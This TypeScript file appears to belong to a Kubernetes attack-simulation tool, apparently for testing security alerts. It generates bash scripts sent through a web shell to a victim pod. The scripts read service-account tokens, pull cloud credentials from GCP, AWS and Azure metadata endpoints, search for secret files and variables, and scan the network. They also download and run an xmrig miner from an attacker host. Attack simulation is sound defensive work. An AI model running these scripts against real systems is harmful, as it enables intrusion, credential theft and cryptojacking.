/**
 * The scripts that run on the victim. They come to it in base64 through the web shell and are read by a bash from its
 * standard input, so that no command line of that bash shows them. Only the commands matter; what they find is not kept.
 */

const tokenFile = '/var/run/secrets/kubernetes.io/serviceaccount/token'
const metadata = 'http://169.254.169.254'
const review =
  '{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{"resourceAttributes":{"namespace":"default","verb":"get","resource":"pods"}}}'

const reconnaissance = `echo "reconnaissance: what may this pod do, and who else is there"
token=$(cat ${tokenFile})
review='${review}'
allowed=$(curl -s -k -A kubectl -H "Authorization: Bearer $token" -H "Content-Type: application/json" -X POST -d "$review" https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews | grep -Po '"allowed":\\s*\\K(true|false)')
echo "may read pods: \${allowed:-unknown}"
nmap -Pn --open kubernetes.default/24 -p 443
`

const lateralMovement = `echo "lateral movement: the node's cloud identity"
found=$(curl -s -m 5 -H "Metadata-Flavor: Google" ${metadata}/computeMetadata/v1/instance/service-accounts/default/token | grep -Po '"access_token":\\s*"\\K[^"]+')
if [ -n "$found" ]; then
  echo "cloud token found"
elif session=$(curl -sf -m 5 -X PUT ${metadata}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"); then
  role=$(curl -s ${metadata}/latest/meta-data/iam/security-credentials -H "X-aws-ec2-metadata-token: $session")
  curl -s "${metadata}/latest/meta-data/iam/security-credentials/$role" -H "X-aws-ec2-metadata-token: $session" | head -c 30
else
  subscription=$(curl -s -m 5 -H Metadata:true --noproxy "*" "${metadata}/metadata/instance/compute/subscriptionId?api-version=2017-08-01&format=text")
  group=$(curl -s -m 5 -H Metadata:true --noproxy "*" "${metadata}/metadata/instance/compute/resourceGroupName?api-version=2017-08-01&format=text")
  location=$(curl -s -m 5 -H Metadata:true --noproxy "*" "${metadata}/metadata/instance/compute/location?api-version=2017-08-01&format=text")
  identity="${metadata}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com"
  answer=$(curl -sf -m 5 -H Metadata:true "$identity") || answer=$(curl -sf -m 5 -H Metadata:true "$identity&msi_res_id=/subscriptions/$subscription/resourceGroups/$group/providers/Microsoft.ManagedIdentity/userAssignedIdentities/cluster-agentpool")
  echo "$answer" | head -c 30
fi
`

const secretsGathering = `echo "secrets: files and variables worth having"
file=$(find / -path */.git-credentials 2>/dev/null)
[ -n "$file" ] && cat $file >/dev/null
cat ${tokenFile} | head -c 30
if curl -sf -m 5 -H "Metadata-Flavor: Google" ${metadata}/computeMetadata/v1/ -o /dev/null; then
  set | grep GOOGLE_DEFAULT_CLIENT_SECRET=
elif curl -sf -m 5 -X PUT ${metadata}/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600" -o /dev/null; then
  set | grep AWS_SECRET_ACCESS_KEY=
else
  set | grep AZURE_CREDENTIAL_FILE=
fi
`

const cryptoMining = (attacker: string) => `echo "mining: prepare the processor, hide, fetch the miner, run it"
/sbin/modprobe msr allow_writes=on
touch /etc/ld.so.preload
curl -sO http://${attacker}/xmrig
chmod +x xmrig
./xmrig
`

const threatIntelligenceDomain = `echo "contact with a test domain of threat intelligence"
curl -s -m 10 -X POST "http://mdc-eicar.alerts.security.azure.com?SendingData" -o /dev/null
`

/** Text of a scenario's script; undefined where a bare command is delivered. `attacker` is the host that serves files. */
export function victimScript(scenario: string, attacker: string): string | undefined {
  const parts: Record<string, string[]> = {
    reconnaissance: [reconnaissance],
    'lateral-movement': [lateralMovement],
    'secrets-gathering': [secretsGathering],
    'crypto-mining': [cryptoMining(attacker)],
    'threat-intelligence-domain': [threatIntelligenceDomain],
    all: [reconnaissance, lateralMovement, secretsGathering, cryptoMining(attacker), threatIntelligenceDomain],
  }
  const chosen = parts[scenario]
  return chosen === undefined ? undefined : `#!/bin/bash\n${chosen.join('')}`
}

/**
 * What the attacker's pod runs: a bash reads this from its standard input, as a person at a shell would type it. It
 * hands the script to the victim's web shell in one GET request and prints the answer without the page's comment.
 */
export function attackerScript(scenario: string, hosts: { attacker: string; victim: string }): string {
  const url = `http://${hosts.victim}/ws.php`
  const show = "sed '/<!--/,/-->/d'"
  const script = victimScript(scenario, hosts.attacker)
  if (script === undefined) return `curl -Gs --data-urlencode "cmd=whoami" ${url} | ${show}\nexit 0\n`
  const serves = scenario === 'crypto-mining' || scenario === 'all'
  return [
    'cd /simulation',
    ...(serves ? ['python3 -m http.server 80 >/dev/null 2>&1 &', 'server=$!', 'sleep 1'] : []),
    `base64 -w0 > /tmp/payload <<'END_OF_SCRIPT'\n${script}END_OF_SCRIPT`,
    'read -r payload < /tmp/payload',
    `curl -Gs --data-urlencode "cmd=echo $payload| base64 -d| bash" ${url} | ${show}`,
    ...(serves ? ['kill $server'] : []),
    'exit 0',
    '',
  ].join('\n')
}
